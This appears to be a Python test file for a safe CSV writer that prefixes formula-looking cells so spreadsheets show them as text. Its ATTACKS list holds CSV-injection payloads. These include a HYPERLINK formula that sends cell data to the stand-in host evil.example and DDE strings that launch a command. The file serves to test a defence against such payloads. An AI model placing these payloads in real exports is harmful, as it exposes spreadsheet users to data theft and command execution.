"""The safe CSV writer: formula-looking cells open in a spreadsheet as text, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from kernel.csvsafe import FORMULA_PREFIXES, SafeDictWriter, safe_cell, to_csv_text

ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_each_formula_prefix_is_written_as_text() -> None:
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack


def test_numbers_and_ordinary_text_are_unchanged() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell("+1.5") == "+1.5"
    assert safe_cell("DJK-002") == "DJK-002"
    assert safe_cell("羽绒服") == "羽绒服"
    assert safe_cell(None) is None


def test_the_dict_writer_neutralises_header_and_cells_and_reads_back() -> None:
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["sku", "=units"])
    writer.writeheader()
    writer.writerows({"sku": attack, "=units": 3} for attack in ATTACKS)
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows[0] == ["sku", "'=units"]
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]
    assert all(row[1] == "3" for row in rows[1:])


@given(st.text(min_size=1))
def test_no_written_cell_begins_with_a_formula_prefix_unless_it_is_a_plain_number(value: str) -> None:
    header, (cell,) = csv.reader(io.StringIO(to_csv_text(["x"], [[value]]), newline=""), strict=True)
    assert header == ["x"]
    if cell.startswith(FORMULA_PREFIXES):
        float(cell)  # only a plain number may keep its sign
